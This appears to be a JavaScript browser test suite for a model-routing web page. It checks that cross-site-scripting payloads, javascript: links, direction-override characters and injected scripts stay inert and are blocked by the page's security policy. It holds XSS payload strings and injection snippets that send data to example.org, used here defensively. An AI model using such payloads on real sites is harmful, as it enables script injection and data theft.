/**
 * Content of strangers on the page: markup, addresses that are scripts, and characters that turn the direction of
 * text, in pools, links and files of prompts. It is shown as text, nothing of it runs, and what would run all the
 * same is blocked by the page's policy.
 */
import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import { SITE, startServer, visit } from "./harness.mjs";
import { PAIR, decision, go, openPool } from "./page.mjs";

/** @typedef {import("playwright-core").Page} Page */

const IMAGE = '<img src=x onerror="globalThis.ran=1">';
const ADDRESS = "javascript:globalThis.ran=1";
const SCRIPT = '"><script>globalThis.ran=1</script><svg onload=globalThis.ran=1>';
/** Turns all that follows it in the same paragraph. */
const OVERRIDE = "\u202e";
const HEBREW = "\u05de\u05d5\u05d3\u05dc 5";
const VIEWS = ["Route", "Batch", "Pool", "About"];

const HOSTILE = {
  schema_version: 1,
  name: `${IMAGE}pool`,
  as_of: "2026-01-01",
  notes: IMAGE,
  models: [IMAGE, ADDRESS, SCRIPT, `${HEBREW}<b>`].map((text, i) => ({
    id: `${text}${i}`,
    name: `${text} name ${i}`,
    provider: `${text} provider`,
    notes: text,
    accuracy: 0.5 + i / 10,
    labels_count: 500,
    cost: { input: 0.1 + i, output: 1 + i },
    [IMAGE]: text,
  })),
};

/** @type {Awaited<ReturnType<typeof startServer>>} */
let server;
before(async () => {
  server = await startServer(SITE);
});
after(() => server.stop());

/**
 * Looks at each view: no element came out of a text, and no script ran.
 *
 * @param {Page} page
 */
async function nothingRan(page) {
  for (const view of VIEWS) {
    await go(page, view);
    const found = await page.evaluate(() => ({
      ran: "ran" in globalThis,
      elements: [
        ...document.querySelectorAll("main img, main b b, main iframe, header img, #notice img, body script"),
      ].length,
      handlers: [...document.querySelectorAll("*")].filter((one) =>
        one.getAttributeNames().some((name) => name.startsWith("on")),
      ).length,
      links: [...document.querySelectorAll("a, form, button")].filter((one) =>
        ["href", "action", "formaction"].some((name) =>
          /^\s*javascript:/i.test(one.getAttribute(name) ?? ""),
        ),
      ).length,
    }));
    assert.deepEqual(found, { ran: false, elements: 0, handlers: 0, links: 0 }, view);
  }
  await go(page, "Route");
}

test("a hostile pool, a link with it and hostile prompts are text, and nothing of them runs", async (t) => {
  let link = "";
  await visit(server.url, async ({ page, context }) => {
    await context.grantPermissions(["clipboard-read", "clipboard-write"]);
    await decision(page);
    await openPool(page, `${IMAGE}.json`, JSON.stringify(HOSTILE));
    await page.locator("#candidates th", { hasText: `${IMAGE} name 0` }).waitFor();
    await nothingRan(page);
    await t.test("a rejected file", async () => {
      await openPool(
        page,
        `${IMAGE}.json`,
        JSON.stringify({ models: [{ ...HOSTILE.models[0], cost: { input: IMAGE } }] }),
      );
      await page.locator(".notice", { hasText: IMAGE }).waitFor();
      await nothingRan(page);
      await page.getByRole("button", { name: "Dismiss" }).click();
    });
    await t.test("prompts", async () => {
      await page.fill("#prompt", `${IMAGE} ${ADDRESS} ${SCRIPT}`);
      await decision(page);
      await go(page, "Batch");
      const table = [
        `${IMAGE},prompt`,
        ...[IMAGE, ADDRESS, SCRIPT].map((text) => `1,"${text.replaceAll('"', '""')}"`),
      ];
      const buffer = Buffer.from(`${table.join("\n")}\n`);
      await page.locator("#batch-file").setInputFiles({ name: `${IMAGE}.csv`, mimeType: "text/csv", buffer });
      await page.getByRole("button", { name: "Route 3 prompts" }).click();
      await page.locator("#batch-rows td", { hasText: IMAGE }).waitFor();
      await nothingRan(page);
    });
    await t.test("a model that is typed in", async () => {
      await go(page, "Pool");
      await page.fill("#add-name", `${IMAGE} added`);
      await page.fill("#add-scores", `${IMAGE}: 5\nGPQA Diamond: 80`);
      await page
        .locator("#add-preview")
        .getByText(/^Expected quality/)
        .waitFor();
      await page.getByRole("button", { name: "Add the model" }).click();
      await page.locator("#pool-rows th", { hasText: `${IMAGE} added` }).waitFor();
      await nothingRan(page);
    });
    await page.getByRole("button", { name: "Share", exact: true }).click();
    await page.getByRole("button", { name: "Copy link with the prompt" }).click();
    await page.getByText("Copied.").waitFor();
    link = await page.evaluate(() => navigator.clipboard.readText());
  });
  await visit(link, async ({ page }) => {
    await decision(page);
    assert.equal(await page.inputValue("#prompt"), `${IMAGE} ${ADDRESS} ${SCRIPT}`);
    await page.locator("#candidates th", { hasText: `${IMAGE} added` }).waitFor();
    await nothingRan(page);
    const other = new URLSearchParams({
      view: IMAGE,
      poolId: IMAGE,
      off: JSON.stringify([IMAGE]),
      own: IMAGE,
    });
    await page.evaluate((hash) => void (location.hash = hash), `${other}`);
    await page.locator(".notice.bad").waitFor();
    await nothingRan(page);
  });
});

/** What a script could do if one of the page's parts let markup through, and the directive that blocks it. */
/** @type {[string, () => unknown, RegExp][]} */
const INJECTIONS = [
  [
    "innerHTML",
    () => (document.body.innerHTML = "<img src=x onerror=globalThis.ran=1>"),
    /require-trusted-types-for/,
  ],
  [
    "insertAdjacentHTML",
    () => document.body.insertAdjacentHTML("beforeend", "<img src=x onerror=globalThis.ran=1>"),
    /require-trusted-types-for/,
  ],
  [
    "the text of a script",
    () => {
      const script = document.createElement("script");
      script.append("globalThis.ran = 1");
      document.body.append(script);
    },
    /require-trusted-types-for|script-src/,
  ],
  [
    "a script of another origin",
    () => {
      const script = document.createElement("script");
      script.src = "https://example.org/x.js";
      document.body.append(script);
    },
    /require-trusted-types-for|script-src/,
  ],
  // Later, since the policy does not hold what the browser's debugger evaluates itself.
  [
    "eval",
    () => void setTimeout(() => (0, eval)("globalThis.ran = 1")),
    /require-trusted-types-for|script-src/,
  ],
  [
    "a handler in an attribute",
    () => {
      const image = document.createElement("img");
      image.setAttribute("onerror", "globalThis.ran = 1");
      image.src = "data:,";
      document.body.append(image);
    },
    /require-trusted-types-for|script-src/,
  ],
  [
    "a javascript: link",
    () => {
      const link = document.createElement("a");
      link.href = "javascript:globalThis.ran=1";
      document.body.append(link);
      link.click();
    },
    /require-trusted-types-for|script-src/,
  ],
  ["an image of another origin", () => void (new Image().src = "https://example.org/?prompt"), /img-src/],
  [
    "a request to another origin",
    () => void fetch("https://example.org/", { method: "POST" }).catch(() => {}),
    /connect-src/,
  ],
  ["a beacon", () => navigator.sendBeacon("https://example.org/", "prompt"), /connect-src/],
  [
    "a frame",
    () => {
      const frame = document.createElement("iframe");
      frame.src = "https://example.org/";
      document.body.append(frame);
    },
    /frame-src|child-src|default-src/,
  ],
  [
    "a style",
    () => {
      const style = document.createElement("style");
      style.append("body { background: url(https://example.org/) }");
      document.body.append(style);
    },
    /style-src/,
  ],
];

test("what an injected script would do is blocked by the policy", async (t) => {
  await visit(server.url, async ({ page, problems, requests }) => {
    await decision(page);
    for (const [what, inject, directive] of INJECTIONS) {
      await t.test(what, async () => {
        await page.evaluate(() => {
          const violation = new Promise((resolve) =>
            addEventListener("securitypolicyviolation", (event) => resolve(event.violatedDirective), {
              once: true,
            }),
          );
          Object.assign(globalThis, { violation });
        });
        await page.evaluate(inject).catch(() => undefined); // trusted types throw
        const violated = await page.evaluate(() =>
          Promise.race([
            /** @type {any} */ (globalThis).violation,
            new Promise((resolve) => setTimeout(() => resolve("none"), 5000)),
          ]),
        );
        assert.match(String(violated), directive);
      });
    }
    assert.equal(await page.evaluate(() => "ran" in globalThis), false);
    const asked = requests.filter((url) => url.includes("example.org"));
    const blocked = problems.filter((one) => /^failed: https:\/\/example\.org.* csp$/.test(one));
    assert.deepEqual(
      blocked,
      asked.map((url) => `failed: ${url} csp`),
      problems.join("\n"),
    );
    assert.ok((await decision(page)).name);
    problems.length = 0;
  });
});

/**
 * Whether a text is drawn from left to right: its first letter is left of its last one.
 *
 * @param {import("playwright-core").Locator} element
 * @param {string} text
 */
const runsLeftToRight = (element, text) =>
  element.evaluate((root, wanted) => {
    const walker = document.createTreeWalker(root, NodeFilter.SHOW_TEXT);
    const nodes = [];
    while (walker.nextNode()) nodes.push(/** @type {Text} */ (walker.currentNode));
    const node = nodes.find(({ data }) => data.includes(wanted));
    if (node === undefined) throw new Error(`“${wanted}” is not in “${root.textContent}”.`);
    const at = node.data.indexOf(wanted);
    const left = (/** @type {number} */ i) => {
      const range = document.createRange();
      range.setStart(node, i);
      range.setEnd(node, i + 1);
      return range.getBoundingClientRect().left;
    };
    return left(at) < left(at + wanted.length - 1);
  }, text);

test("a name that turns the direction of text turns nothing but itself", async (t) => {
  const pool = {
    ...PAIR,
    models: PAIR.models.map((model, i) => ({
      ...model,
      name: i === 0 ? HEBREW : `Large ${HEBREW}`,
      provider: "Provider",
    })),
  };
  await visit(server.url, async ({ page }) => {
    await decision(page);
    await openPool(page, "directions.json", JSON.stringify(pool));
    await page.locator("#decision h2", { hasText: HEBREW }).waitFor();
    const reason = (await page.locator("#decision .reason").innerText()).trim();
    t.diagnostic(reason);
    const last =
      reason
        .split(" ")
        .filter((word) => /^[a-z]{3,}/.test(word))
        .at(-1) ?? "";
    /** @type {[string, string][]} */
    const places = [
      ["#decision h2", "Provider"],
      ["#decision .reason", last],
      ["#candidates tr.chosen th", "chosen"],
      ["#plot figcaption", "for"],
    ];
    for (const [place, text] of places) {
      await t.test(`${place}: ${text}`, async () =>
        assert.ok(await runsLeftToRight(page.locator(place), text), await page.locator(place).innerText()),
      );
    }
    await go(page, "Pool");
    await t.test("the table of models", async () =>
      assert.ok(await runsLeftToRight(page.locator("#pool-rows th").first(), "Provider")),
    );
    const label =
      (await page.locator("#pool-rows input[role=switch]").first().getAttribute("aria-label")) ?? "";
    assert.equal(label, `Use \u2068${HEBREW}\u2069`);
    await t.test("a notice", async () => {
      await openPool(page, `${OVERRIDE}file.json`, "{");
      const notice = page.locator(".notice strong");
      await notice.waitFor();
      assert.ok(await runsLeftToRight(notice, "rejected"), await notice.innerText());
    });
    await go(page, "Route");
    await page.fill("#prompt", HEBREW);
    assert.equal(await page.locator("#prompt").evaluate((box) => getComputedStyle(box).direction), "rtl");
  });
});
